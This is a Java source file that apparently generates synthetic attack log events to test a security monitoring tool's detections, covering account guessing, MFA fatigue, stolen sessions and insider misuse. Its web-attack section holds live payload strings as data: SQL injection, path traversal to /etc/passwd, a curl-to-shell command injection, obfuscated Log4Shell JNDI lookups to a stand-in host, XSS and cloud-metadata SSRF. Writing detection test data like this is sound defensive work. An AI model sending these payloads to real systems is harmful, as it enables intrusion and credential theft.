package io.streamwarden.app.month;

import static io.streamwarden.app.month.Calendar.DAY;
import static io.streamwarden.app.month.Calendar.HOUR;
import static io.streamwarden.app.month.Calendar.MINUTE;
import static io.streamwarden.app.month.Calendar.SECOND;

import io.streamwarden.app.month.MonthEvent.Actor;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.function.IntFunction;

/**
 * The attacks of a month: each kind at {@value #TIMES} paces, from bold to patient. The patient ones keep below thresholds on
 * purpose, so that what is reported as found is not what was built to be found. Addresses are those of RFC 5737.
 */
final class Crimes {
    static final int TIMES = 4;
    static final String BAD = "192.0.2.66";

    private static final String WRONG = "invalid_credentials";
    private static final String BROWSER =
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36";
    private static final long ASN = 64_496;

    private final List<Crime> crimes = new ArrayList<>();
    private final int days;
    private int serial;

    private Crimes(int days) {
        this.days = days;
    }

    static List<Crime> of(int days) {
        Crimes all = new Crimes(days);
        for (int pace = 0; pace < TIMES; pace++) {
            all.onAccounts(pace);
            all.onSecondFactors(pace);
            all.onSessionsAndKeys(pace);
            all.onTheSite(pace);
            all.ofInsiders(pace);
        }
        return List.copyOf(all.crimes);
    }

    /** One of the commission: its events from a start, an address of its own, and names. */
    private interface Deed {
        void commit(Scene scene);
    }

    /** Where an attack is written down. */
    private static final class Scene {
        private final long start;
        private final int serial;
        private final List<MonthEvent> events = new ArrayList<>();
        private final Set<String> names = new HashSet<>();

        Scene(long start, int serial) {
            this.start = start;
            this.serial = serial;
        }

        String address(int number) {
            String[] nets = {"192.0.2.", "198.51.100.", "203.0.113."};
            int place = serial * 3 + number;
            String address = nets[place % 3] + (70 + place / 3 % 180);
            names.add(address);
            return address;
        }

        String victim(int number) {
            String name = "victim." + serial + "." + number;
            names.add(name);
            return name;
        }

        void add(MonthEvent event) {
            events.add(event);
        }

        void each(int times, IntFunction<MonthEvent> make) {
            for (int i = 0; i < times; i++) {
                add(make.apply(i));
            }
        }

        long at(int step, long everyMs) {
            return start + step * everyMs;
        }
    }

    private void crime(String kind, Deed deed) {
        long start = Calendar.START + (2 + serial * 5L % (days - 3)) * DAY + (serial * 7L % 24) * HOUR + 11 * MINUTE;
        Scene scene = new Scene(start, serial++);
        deed.commit(scene);
        scene.events.sort(Comparator.comparingLong(event -> event.timeMs));
        crimes.add(new Crime(kind, Set.copyOf(scene.names), List.copyOf(scene.events)));
    }

    private static int pick(int pace, int... of) {
        return of[pace];
    }

    private static Actor browser(String user, int network) {
        return Actor.person(user, BROWSER, ASN + network);
    }

    private static Actor terminal(String user) {
        return Actor.person(user, null, ASN);
    }

    private static Actor nobody() {
        return Actor.nobody(BROWSER, ASN);
    }

    private static MonthEvent failure(long time, String address, Actor actor) {
        return MonthEvent.account(time, address, actor, "logon", WRONG);
    }

    private void onAccounts(int pace) {
        long every = pick(pace, 2, 20, 300, 1_100) * SECOND;
        crime("guessing one user", s -> {
            String address = s.address(0);
            Actor victim = browser(s.victim(0), 0);
            s.each(40, i -> failure(s.at(i, every), address, victim));
        });
        crime("guessing at a terminal", s -> {
            String address = s.address(0);
            s.each(60, i -> failure(s.at(i, every), address, terminal(s.victim(i % 3))));
        });
        crime("spraying a terminal", s -> {
            String address = s.address(0);
            s.each(40, i -> failure(s.at(i, every), address, terminal(s.victim(i))));
        });
        long sprayEvery = pick(pace, 1, 16, 33, 90) * SECOND;
        crime("spraying a sign-in page", s -> {
            String address = s.address(0);
            s.each(120, i -> failure(s.at(i, sprayEvery), address, browser(s.victim(i), 0)));
        });
        crime("stuffing leaked passwords", s -> {
            String address = s.address(0);
            s.each(
                    300,
                    i -> MonthEvent.account(
                            s.at(i, sprayEvery),
                            address,
                            browser(s.victim(i), 0),
                            "logon",
                            i == 170 ? null : i % 3 == 0 ? "unknown_user" : WRONG));
        });
        crime("searching user names", s -> {
            String address = s.address(0);
            long step = pick(pace, 1, 10, 50, 100) * SECOND;
            s.each(
                    60,
                    i -> MonthEvent.account(s.at(i, step), address, browser(s.victim(i), 0), "logon", "unknown_user"));
        });
        crime("guessing one user from many addresses", s -> {
            Actor victim = browser(s.victim(0), 0);
            long step = pick(pace, 5, 60, 240, 600) * SECOND;
            s.each(40, i -> failure(s.at(i, step), s.address(i % 3) + i % 9, browser(s.victim(0), i % 9)));
            for (int i = 0; i < 40; i++) {
                s.names.add(s.address(i % 3) + i % 9);
            }
            s.add(failure(s.at(41, step), s.address(0), victim));
        });
        crime("taking an account over", s -> {
            String address = s.address(0);
            Actor victim = browser(s.victim(0), 0);
            int guesses = pick(pace, 30, 9, 5, 4);
            long step = pick(pace, 2, 30, 300, 600) * SECOND;
            s.each(guesses, i -> failure(s.at(i, step), address, victim));
            s.add(MonthEvent.account(s.at(guesses, step), address, victim, "logon", null));
            s.add(MonthEvent.account(s.at(guesses + 1, step), address, victim, "mfa_enroll", null));
        });
        crime("trying disabled accounts", s -> {
            String address = s.address(0);
            long step = pick(pace, 3, 60, 400, 1_000) * SECOND;
            s.each(15, i -> MonthEvent.account(s.at(i, step), address, browser(s.victim(i), 0), "logon", "disabled"));
        });
        crime("locking accounts", s -> {
            String address = s.address(0);
            long step = pick(pace, 1, 5, 30, 200) * SECOND;
            s.each(
                    120,
                    i -> MonthEvent.account(
                            s.at(i, step),
                            address,
                            browser(s.victim(i / 8), 0),
                            "logon",
                            i % 8 < 4 ? WRONG : "locked"));
        });
        crime("flooding password resets", s -> {
            String address = s.address(0);
            long step = pick(pace, 2, 30, 240, 600) * SECOND;
            s.each(
                    40,
                    i -> MonthEvent.account(s.at(i, step), address, browser(s.victim(i), 0), "password_reset", null));
        });
        crime("signing up bots", s -> {
            String address = s.address(0);
            long step = pick(pace, 2, 30, 160, 400) * SECOND;
            s.each(60, i -> MonthEvent.account(s.at(i, step), address, nobody(), "account_create", null)
                    .as(s.victim(i)));
        });
    }

    private void onSecondFactors(int pace) {
        crime("wearing a user down", s -> {
            String address = s.address(0);
            Actor victim = browser(s.victim(0), 0);
            int pushes = pick(pace, 30, 12, 6, 4);
            long step = pick(pace, 15, 40, 100, 150) * SECOND;
            s.add(MonthEvent.account(s.at(0, step) - 5 * SECOND, address, victim, "logon", null));
            s.each(
                    pushes,
                    i -> MonthEvent.account(
                            s.at(i, step), address, victim, "mfa_result", i % 2 == 0 ? "mfa_denied" : "mfa_timeout"));
            s.add(MonthEvent.account(s.at(pushes, step), address, victim, "mfa_result", null)
                    .by("push"));
        });
        crime("guessing codes", s -> {
            String address = s.address(0);
            Actor victim = browser(s.victim(0), 0);
            long step = pick(pace, 1, 10, 50, 120) * SECOND;
            s.each(60, i -> MonthEvent.account(s.at(i, step), address, victim, "mfa_result", "mfa_failed"));
        });
        crime("taking an administrator's second factor away", s -> {
            Actor admin = browser(s.victim(0), pace).withRoles("staff", "admin");
            s.add(MonthEvent.account(s.at(0, SECOND), s.address(0), admin, "mfa_disable", null));
        });
        crime("appointing oneself", s -> {
            Actor user = browser(s.victim(0), pace).withRoles("staff");
            s.add(MonthEvent.account(s.at(0, SECOND), s.address(0), user, "role_change", null)
                    .target(s.victim(0)));
        });
        crime("using a service's account by hand", s -> {
            Actor service = browser(s.victim(0), pace).withType("service");
            s.add(MonthEvent.account(s.at(0, SECOND), s.address(0), service, "logon", null));
        });
    }

    private void onSessionsAndKeys(int pace) {
        crime("using a stolen cookie", s -> {
            String session = "stolen-" + s.serial;
            s.names.add(session);
            Actor victim = browser(s.victim(0), 0).withSession(session);
            s.add(MonthEvent.account(s.at(0, SECOND), "10.9.9." + (10 + pace), victim, "logon", null));
            String agent = pick(pace, 0, 0, 0, 1) == 0 ? "python-requests/2.32.4" : BROWSER;
            long later = pick(pace, 10, 120, 900, 900) * MINUTE;
            Actor thief = Actor.person(s.victim(0), agent, ASN + 3).withSession(session);
            s.each(5, i -> MonthEvent.request(s.start + later + i * SECOND, s.address(0), thief, "/account", 200));
        });
        crime("replaying a token", s -> {
            String token = "replayed-" + s.serial;
            s.names.add(token);
            int uses = pick(pace, 9, 5, 3, 2);
            s.each(uses, i -> MonthEvent.account(
                            s.at(i, HOUR), s.address(i % 3) + i / 3, browser(s.victim(0), i), "token_refresh", null)
                    .token(token));
        });
        crime("using a leaked key", s -> {
            String key = "leaked-" + s.serial;
            s.names.add(key);
            int networks = pick(pace, 12, 7, 5, 3);
            s.each(
                    60,
                    i -> MonthEvent.request(
                            s.at(i, 10 * MINUTE),
                            s.address(i % 3),
                            Actor.nobody("curl/8.9", ASN + i % networks).withKey(key),
                            "/api/v2/orders",
                            200));
        });
        crime("feeling out a found key", s -> {
            String key = "found-" + s.serial;
            s.names.add(key);
            long step = pick(pace, 1, 10, 150, 400) * SECOND;
            s.each(
                    25,
                    i -> MonthEvent.request(
                            s.at(i, step),
                            s.address(0),
                            Actor.nobody("curl/8.9", ASN).withKey(key),
                            "/api/v2/part" + (char) ('a' + i),
                            403));
        });
        crime("signing in from everywhere", s -> {
            long step = pick(pace, 1, 5, 10, 30) * MINUTE;
            s.each(
                    8,
                    i -> MonthEvent.account(
                            s.at(i, step), s.address(i % 3) + i / 3, browser(s.victim(0), i), "logon", null));
        });
    }

    private void onTheSite(int pace) {
        long every = pick(pace, 1, 5, 30, 80) * SECOND;
        crime("scanning paths", s -> {
            String address = s.address(0);
            s.each(
                    60,
                    i -> MonthEvent.request(
                            s.at(i, every), address, nobody(), "/backup" + i + ".zip", i % 7 == 6 ? 403 : 404));
        });
        crime("trying doors", s -> {
            String address = s.address(0);
            long step = pick(pace, 1, 30, 170, 300) * SECOND;
            s.each(
                    30,
                    i -> MonthEvent.request(
                            s.at(i, step),
                            address,
                            nobody(),
                            "/admin/tool" + (char) ('a' + i % 26) + i / 26 + "x",
                            403));
        });
        crime("breaking the server", s -> {
            String address = s.address(0);
            long step = pick(pace, 1, 5, 19, 40) * SECOND;
            s.each(90, i -> MonthEvent.request(s.at(i, step), address, nobody(), "/search", 500)
                    .query("q=" + (char) ('a' + i % 26) + "%ff" + i));
        });
        crime("flooding an endpoint", s -> {
            String address = s.address(0);
            long step = pick(pace, 50, 500, 3_000, 4_000);
            s.each(1_800, i -> MonthEvent.request(s.at(i, step), address, nobody(), "/api/v1/search", 200)
                    .query("q=" + i));
        });
        signature(
                "injecting SQL",
                pace,
                "/search",
                "q=jacket%27%20OR%20%271%27%3D%271%27--%20",
                "q=-1%20UNION%20SELECT%20name,pass%20FROM%20users--",
                "id=7%20AND%20SLEEP(5)",
                "q=x%2527%2520union%2520all%2520select%2520null,version()--+-");
        signature(
                "climbing out of the folder",
                pace,
                "/download",
                "file=../../../../etc/passwd",
                "file=..%2f..%2f..%2f..%2fetc%2fshadow",
                "file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
                "file=....//....//....//etc/passwd");
        signature(
                "running commands",
                pace,
                "/ping",
                "host=127.0.0.1;cat%20/etc/passwd",
                "host=$(curl%20http://203.0.113.201/x%7Csh)",
                "t=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__%7D%7D",
                "url=http://169.254.169.254/latest/meta-data/iam/");
        signature(
                "writing script into pages",
                pace,
                "/comment",
                "t=%3Cscript%3Ealert(1)%3C/script%3E",
                "t=%3Cimg%20src=x%20onerror=alert(1)%3E",
                "t=%22%3E%3Csvg/onload=alert(document.cookie)%3E",
                "u=javascript:alert(document.domain)");
        signature(
                "calling a logger out",
                pace,
                "/",
                "x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.201%2Fa%7D",
                "x=${${lower:j}ndi:${lower:l}dap://203.0.113.201/b}",
                "x=$%7B$%7B::-j%7Dndi:dns://203.0.113.201/c%7D",
                "x=${jndi:${env:A:-l}dap://203.0.113.201/d}");
        crime("scanning with a known tool", s -> {
            String agent = List.of("Nikto/2.5.0", "sqlmap/1.8.4#stable", "Nuclei - Open-source project", "WPScan v3.8")
                    .get(pace);
            s.each(
                    6,
                    i -> MonthEvent.request(
                            s.at(i, 10 * SECOND), s.address(0), Actor.nobody(agent, ASN), "/help/feed", 200));
        });
        crime("coming from a known bad address", s -> {
            s.names.add(BAD);
            s.add(MonthEvent.request(s.start, BAD, nobody(), "/", 200));
        });
        crime("posing as a search engine", s -> {
            Actor bot = Actor.nobody("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", ASN);
            s.add(MonthEvent.request(s.start, s.address(0), bot, "/", 200));
        });
        crime("fetching secrets", s -> {
            String path = List.of("/.env", "/.git/config", "/backup/db.sql", "/.aws/credentials")
                    .get(pace);
            s.add(MonthEvent.request(s.start, s.address(0), nobody(), path, 200));
        });
    }

    private void signature(String kind, int pace, String path, String... queries) {
        crime(
                kind,
                s -> s.add(MonthEvent.request(s.start, s.address(0), nobody(), path, 200)
                        .query(queries[pace])));
    }

    private void ofInsiders(int pace) {
        crime("reading what is forbidden", s -> {
            Actor insider = browser(s.victim(0), 0);
            long step = pick(pace, 1, 30, 170, 300) * SECOND;
            s.each(
                    30,
                    i -> MonthEvent.request(
                            s.at(i, step),
                            "10.0.7.1",
                            insider,
                            "/hr/file" + (char) ('a' + i % 26) + i / 26 + "x",
                            403));
        });
        crime("trying ids of others", s -> {
            Actor insider = browser(s.victim(0), 0);
            long step = pick(pace, 1, 5, 25, 60) * SECOND;
            s.each(
                    100,
                    i -> MonthEvent.request(
                            s.at(i, step),
                            s.address(0),
                            insider,
                            "/api/v1/orders/" + (7_000_000 + i),
                            i % 5 == 4 ? 200 : 403));
        });
        crime("deleting everything", s -> {
            Actor insider = browser(s.victim(0), 0);
            long step = pick(pace, 100, 1_000, 9_000, 20_000);
            s.each(700, i -> MonthEvent.request(s.at(i, step), "10.0.7.1", insider, "/api/v1/messages/" + i, 204)
                    .operation("delete", "DELETE"));
        });
        crime("exporting again and again", s -> {
            Actor insider = browser(s.victim(0), 0);
            long step = pick(pace, 5, 60, 120, 300) * SECOND;
            s.each(60, i -> MonthEvent.request(s.at(i, step), "10.0.7.1", insider, "/api/v1/files", 200)
                    .operation("export", "POST"));
        });
        crime("scraping reports", s -> {
            Actor insider = browser(s.victim(0), 0);
            long step = pick(pace, 500, 5_000, 30_000, 60_000);
            s.each(300, i -> MonthEvent.request(s.at(i, step), s.address(0), insider, "/analytics/export", 200));
        });
        crime("mapping the inside", s -> {
            Actor insider = browser(s.victim(0), 0);
            long step = pick(pace, 1, 5, 28, 60) * SECOND;
            s.each(
                    80,
                    i -> MonthEvent.request(
                            s.at(i, step), "10.0.7.1", insider, "/intern/" + (char) ('a' + i % 26) + i + "x", 404));
        });
    }
}
